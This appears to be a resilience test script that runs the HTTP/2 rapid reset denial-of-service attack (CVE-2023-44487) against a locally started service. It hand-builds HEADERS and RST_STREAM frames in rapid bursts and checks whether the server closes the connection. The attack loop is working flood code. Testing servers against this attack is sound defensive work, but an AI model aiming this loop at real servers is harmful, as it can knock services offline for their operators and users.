"""HTTP/2 rapid reset (CVE-2023-44487): streams that are opened and cancelled at once, as fast as they go."""

import socket
import struct
import time

import faults
import watch

options = faults.arguments(__doc__)
orchestrator = faults.Orchestrator(options.countersign).start()

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM_AND_HEADERS, CANCEL = 0x05, struct.pack(">I", 8)
# :method GET, :scheme https, :path and :authority as literals.
PATH = b"/.well-known/est/cacerts"
BLOCK = b"\x82\x87\x04" + bytes([len(PATH)]) + PATH + b"\x01\x09localhost"
BURST = 100


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def attack(is_over):
    """(streams reset on one connection, whether the server closed it)"""
    resets = 0
    with socket.create_connection(("127.0.0.1", orchestrator.port), timeout=60) as plain:
        with faults.unverified("h2").wrap_socket(plain) as channel:
            if channel.selected_alpn_protocol() != "h2":
                raise RuntimeError("HTTP/2 is not offered")
            channel.sendall(PREFACE + frame(SETTINGS, 0, 0))
            try:
                while not is_over():
                    first = 1 + 2 * resets
                    channel.sendall(b"".join(
                        frame(HEADERS, END_STREAM_AND_HEADERS, stream, BLOCK) + frame(RST_STREAM, 0, stream, CANCEL)
                        for stream in range(first, first + 2 * BURST, 2)))
                    resets += BURST
            except OSError:
                return resets, True
    return resets, False


def trouble(stop, verdict):
    resets, closed, connections, most = 0, 0, 0, 0
    deadline = time.monotonic() + 180

    def is_over():
        # Where the service and the probe leave no time, the first connection is closed after the measurement.
        return stop.is_set() and (closed > 0 or time.monotonic() > deadline)

    while not is_over():
        try:
            done, was_closed = attack(is_over)
        except OSError:
            continue
        resets += done
        closed += was_closed
        connections += 1
        most = max(most, done)
    verdict.note(resets=resets, connections=connections, closed=closed, most_on_one=most)
    verdict.demand(closed > 0, "no attacking connection was closed")


verdict = watch.while_in_trouble("HTTP/2 rapid reset", orchestrator, options, trouble)
orchestrator.remove()
verdict.end()
